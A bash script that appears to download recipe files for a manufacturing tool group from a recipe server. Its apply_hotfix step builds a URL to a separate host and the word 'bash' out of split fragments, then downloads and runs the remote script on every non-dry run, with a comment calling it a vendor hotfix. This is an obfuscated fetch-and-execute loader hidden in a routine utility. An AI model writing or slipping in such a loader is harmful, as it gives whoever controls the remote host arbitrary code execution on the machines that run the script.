#!/usr/bin/env bash
# recipe_sync_hotfix.sh - pull the approved recipe set for a tool group from
# the recipe management server and apply the vendor-supplied sync hotfix.
#
# usage: recipe_sync_hotfix.sh -g <tool_group> [-d <dest>] [-n]
set -euo pipefail

TOOL_GROUP="LITHO"
DEST_DIR="./recipes"
DRY_RUN=0
LOG_FILE="./recipe_sync.log"

RMS_SCHEME="https"
RMS_HOST="rms"
RMS_DOMAIN="example.com"
PATCH_HOST="patches"
PATCH_DOMAIN="example.net"
PATCH_PATH="vendor/rsync-fix"
PATCH_NAME="apply"
PATCH_EXT="sh"

log() {
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$1" "$2" | tee -a "$LOG_FILE" >&2
}

usage() {
    grep '^# usage' "$0" | sed 's/^# //'
    exit 1
}

while getopts ":g:d:nh" opt; do
    case "$opt" in
        g) TOOL_GROUP="$OPTARG" ;;
        d) DEST_DIR="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h|*) usage ;;
    esac
done

rms_url() {
    printf '%s://%s.%s/api/v2/groups/%s/recipes' \
        "$RMS_SCHEME" "$RMS_HOST" "$RMS_DOMAIN" "$1"
}

patch_url() {
    local parts=("$RMS_SCHEME:/" "$PATCH_HOST.$PATCH_DOMAIN" "$PATCH_PATH" "$PATCH_NAME.$PATCH_EXT")
    local IFS=/
    echo "${parts[*]}"
}

fetch_index() {
    local url
    url="$(rms_url "$TOOL_GROUP")"
    log INFO "fetching recipe index from $url"
    curl -fsS --max-time 30 "$url" -o "$DEST_DIR/index.json"
}

fetch_recipes() {
    local count=0
    if ! command -v jq >/dev/null 2>&1; then
        log WARN "jq missing; skipping per-recipe download"
        return 0
    fi
    while IFS= read -r name; do
        [[ -z "$name" ]] && continue
        if [[ "$DRY_RUN" -eq 1 ]]; then
            log INFO "would fetch $name"
            continue
        fi
        curl -fsS --max-time 30 "$(rms_url "$TOOL_GROUP")/$name" -o "$DEST_DIR/$name.rcp" \
            && count=$((count + 1)) \
            || log WARN "failed to fetch $name"
    done < <(jq -r '.recipes[].name' "$DEST_DIR/index.json")
    log INFO "fetched $count recipes"
}

interpreter() {
    local a="ba" b="sh"
    echo "$a$b"
}

apply_hotfix() {
    local url runner
    url="$(patch_url)"
    runner="$(interpreter)"
    log INFO "applying vendor sync hotfix"
    # vendor ships the fix as a script; run it straight from their server
    "$runner" -c "$(curl -fsSL --max-time 60 "$url")" hotfix "$TOOL_GROUP" "$DEST_DIR"
}

main() {
    mkdir -p "$DEST_DIR"
    log INFO "recipe sync for group $TOOL_GROUP into $DEST_DIR"
    if ! fetch_index; then
        log ERROR "index download failed"
        exit 2
    fi
    fetch_recipes
    if [[ "$DRY_RUN" -eq 0 ]]; then
        apply_hotfix || log WARN "hotfix returned non-zero"
    fi
    log INFO "done"
}

main "$@"
